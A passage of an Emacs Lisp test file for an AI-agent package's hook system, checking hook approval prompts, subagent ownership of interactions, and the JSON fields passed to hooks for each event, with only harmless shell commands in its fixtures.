            (funcall (plist-get await :await) (lambda (answer) (push answer answers)))
            (let ((card (hooks-test--card chat)))
              (should (equal (mevedel-interaction-owner card) "/root/helper"))
              (with-current-buffer view
                (should (string-search "· /root/helper" (buffer-string))))
              ;; The root's request does not own it; the child's does.
              (should (zerop (mevedel-interaction-cancel-request chat (mevedel-chat-request chat))))
              (should (= 1 (mevedel-interaction-cancel-request chat 'helper-turn)))
              (should-not (mevedel-interaction-list chat))
              (should answers)))
        (kill-buffer view)
        (kill-buffer (mevedel-chat-data-buffer chat))))))

(ert-deftest mevedel-hooks:without-a-view-the-minibuffer-asks ()
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 '(UserPromptSubmit (:command "echo from-the-hook")))))
    (let ((mevedel-hooks-approve-function #'mevedel-hooks-ask-approval)
          (questions nil))
      (cl-letf (((symbol-function 'y-or-n-p) (lambda (prompt) (push prompt questions) t)))
        (should-not (mevedel-file-approval-ask-card (expand-file-name ".mevedel/hooks.el" workspace)
                                                    '(:kind hook-approval) #'ignore))
        (let ((box (hooks-test--submit session)))
          (mevedel-test-wait-until (car box) 20)
          (should (= 1 (length questions)))
          (should (string-match-p "hooks\\.el is new or changed" (car questions)))
          (should (string-search "from-the-hook"
                                 (format "%s" (hooks-test--take-context session)))))))))

;;;; The input's shape

(defun hooks-test--keys (alist)
  "Return the keys of ALIST, in order, as strings."
  (mapcar (lambda (pair) (symbol-name (car pair))) alist))

(ert-deftest mevedel-hooks:input-json-is-claude-codes-shape ()
  (hooks-test--with nil
    (let* ((dir (make-temp-file "hooks-json" t))
           ;; Written aside and renamed: a file that exists is whole
           ;; (SessionStart's hook is not awaited, only its file).
           (capture (lambda (event)
                      (let ((file (format "%s/%s.json" dir event)))
                        (format "cat > %s.part && mv %s.part %s" file file file))))
           (common '("session_id" "transcript_path" "cwd" "permission_mode" "hook_event_name"))
           (mevedel-hooks
            (mapcar (lambda (event) (list event (list :command (funcall capture event))))
                    mevedel-hooks-events)))
      (hooks-test--bash session "echo shape")
      ;; A handler error: the module refuses the background operator.
      (hooks-test--bash session "sleep 1 & echo x")
      (hooks-test--await #'mevedel-hooks-prompt-submit session "the prompt")
      (hooks-test--await #'mevedel-hooks-stop session "the answer")
      (mevedel-hooks-session-start session "resume" "claude-test")
      (hooks-test--await #'mevedel-hooks-subagent-start session "agent-1" "explorer")
      ;; SubagentStop observes: nothing waits for its answer.
      (mevedel-hooks-subagent-stop session '(:id "agent-1" :type "explorer")
                                   :transcript "/tmp/agent.txt" :last-message "found it")
      (mevedel-test-wait-until (file-exists-p (expand-file-name "SubagentStop.json" dir)) 10)
      (mevedel-test-wait-until (file-exists-p (expand-file-name "SessionStart.json" dir)) 10)
      (let ((file (lambda (event) (hooks-test--json-file (format "%s/%s.json" dir event))))
            (cwd (directory-file-name workspace)))
        (let ((pre (funcall file 'PreToolUse)))
          (should (equal (hooks-test--keys pre)
                         (append common '("tool_name" "tool_input" "tool_use_id"))))
          (should (equal (alist-get 'session_id pre) (mevedel-session-id session)))
          (should (equal (alist-get 'cwd pre) cwd))
          (should (equal (alist-get 'permission_mode pre) "bypassPermissions"))
          (should (equal (alist-get 'hook_event_name pre) "PreToolUse"))
          (should (equal (alist-get 'tool_name pre) "Bash"))
          (should (equal (alist-get 'tool_input pre)
                         '((command . "sleep 1 & echo x") (description . "test"))))
          (should (equal (alist-get 'tool_use_id pre) "toolu_hook"))
          (should (string-suffix-p "session.sqlite" (alist-get 'transcript_path pre))))
        (let ((post (funcall file 'PostToolUse)))
          (should (equal (hooks-test--keys post)
                         (append common '("tool_name" "tool_input" "tool_response" "tool_use_id"))))
          (should (string-match-p "shape" (alist-get 'tool_response post))))
        (let ((failure (funcall file 'PostToolUseFailure)))
          (should (equal (hooks-test--keys failure)
                         (append common '("tool_name" "tool_input" "error" "is_interrupt"
                                          "tool_use_id"))))
          (should (string-match-p "background operator" (alist-get 'error failure)))
          (should (eq (alist-get 'is_interrupt failure) :false)))
        (let ((prompt (funcall file 'UserPromptSubmit)))
          (should (equal (hooks-test--keys prompt) (append common '("prompt"))))
          (should (equal (alist-get 'prompt prompt) "the prompt")))
        (let ((stop (funcall file 'Stop)))
          (should (equal (hooks-test--keys stop)
                         (append common '("stop_hook_active" "last_assistant_message"))))
          (should (eq (alist-get 'stop_hook_active stop) :false))
          (should (equal (alist-get 'last_assistant_message stop) "the answer")))
        (let ((start (funcall file 'SessionStart)))
          (should (equal (hooks-test--keys start) (append common '("source" "model"))))
          (should (equal (alist-get 'source start) "resume"))
          (should (equal (alist-get 'model start) "claude-test")))
        (let ((sub (funcall file 'SubagentStart)))
          (should (equal (hooks-test--keys sub) (append common '("agent_id" "agent_type"))))
          (should (equal (alist-get 'agent_type sub) "explorer")))
        (let ((sub (funcall file 'SubagentStop)))
          (should (equal (hooks-test--keys sub)
                         (append common '("stop_hook_active" "agent_id" "agent_type"
                                          "agent_transcript_path" "last_assistant_message"))))
          (should (equal (alist-get 'agent_transcript_path sub) "/tmp/agent.txt"))))
      (delete-directory dir t))))

(provide 'hooks-test)
;;; hooks-test.el ends here
